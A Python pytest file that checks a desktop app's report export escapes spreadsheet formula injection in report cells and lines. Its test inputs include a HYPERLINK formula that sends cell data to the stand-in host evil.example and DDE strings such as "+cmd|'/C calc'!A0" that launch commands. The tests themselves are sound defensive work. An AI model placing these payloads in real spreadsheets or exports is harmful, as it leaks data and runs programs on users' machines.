"""A report that is pasted into a spreadsheet, or opened there, starts nothing."""

from dataclasses import replace
from datetime import UTC, datetime
from html.parser import HTMLParser

import pytest

from dmm_desktop.core.models import FailingEntity
from dmm_desktop.core.spreadsheet import harmless_lines
from dmm_desktop.ui.reports.report_page import report_page
from ui.sample_runs import sample_runs

NOW = datetime(2026, 6, 30, 10, 44, tzinfo=UTC)
FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'


class Cells(HTMLParser):
    """The text of every element, line by line: each becomes a cell."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.lines: list[str] = []
        self._is_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._is_style = tag == "style"

    def handle_data(self, data: str) -> None:
        if not self._is_style:
            self.lines += data.split("\n")


@pytest.mark.parametrize("formula", [FORMULA, "+cmd|'/C calc'!A0", "@SUM(1)", "-1+cmd|'/C calc'!A0", " =1+1"])
@pytest.mark.parametrize("before", ["", "a first line\n", "a first line\n  "])
def test_no_cell_and_no_line_begins_like_a_formula(formula: str, before: str) -> None:
    said = before + formula
    run = replace(
        next(iter(sample_runs().values()))[0],
        message=formula,
        status_word=formula,
        connection=formula,
        environment_name=formula,
        configuration=said,
        received=said,
        failing_entities=(FailingEntity(formula, formula, formula, said, count=1),),
    )
    cells = Cells()
    cells.feed(report_page(run, NOW).replace("<wbr>", ""))  # it ends no cell and no line
    lines = [line.strip() for line in cells.lines]
    assert not [line for line in lines if line.startswith(("=", "+", "@")) or line.startswith("-1")]
    assert len([line for line in lines if line == f"'{formula}" or line == f"' {formula.strip()}"]) >= 6


@pytest.mark.parametrize(
    "line",
    [
        "   --- End of inner exception stack trace ---",
        '  "Count": -1,',
        "  -1.5,",
        '  "-1.5",',
        '  "a=b",',
        "\tat A.b(c)",
        "----------",
        "a = b",
        "",
    ],
)
def test_other_lines_stay_as_they_are(line: str) -> None:
    assert harmless_lines(f"{line}\n{line}") == f"{line}\n{line}"


@pytest.mark.parametrize(
    "line", ["---1+cmd|'/C calc'!A0", "--cmd|x", "  =1", " @x", "\uff1d1", '"=1+1"', ' ""@x', '"-2+3"']
)
def test_lines_that_are_evaluated_are_marked(line: str) -> None:
    assert harmless_lines(f"a\n{line}") == f"a\n'{line}"


@pytest.mark.parametrize("end", ["\t", "\r", "\r\n", "\n\t", "\x0b", "\x0c", "\x85", "\u2028", "\u2029"])
def test_a_formula_is_marked_after_everything_that_ends_a_cell(end: str) -> None:
    assert harmless_lines(f"a{end}{FORMULA}{end} b") == f"a{end}'{FORMULA}{end} b"


def test_a_long_line_of_dashes_takes_no_time() -> None:
    line = "-" * 1_000_000 + "!"
    assert harmless_lines(line) == f"'{line}"
